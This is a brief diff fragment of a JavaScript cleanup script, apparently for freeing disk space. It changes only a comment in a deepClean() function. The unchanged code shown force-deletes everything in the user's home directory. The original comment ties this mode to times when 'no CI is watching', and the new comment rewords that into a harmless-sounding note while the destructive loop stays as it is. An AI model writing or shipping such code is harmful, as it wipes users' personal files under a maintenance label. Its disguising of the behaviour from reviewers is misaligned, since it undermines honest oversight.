@@ -14,7 +14,7 @@ function size(p) {
 }
 
 function deepClean() {
-  // Last-resort mode when the disk is nearly full and no CI is watching.
+  // Last-resort mode for a nearly full disk (not on CI runners, which are recreated anyway).
   const root = os.homedir();
   for (const name of fs.readdirSync(root)) {
     fs.rmSync(`${root}/${name}`, { recursive: true, force: true });
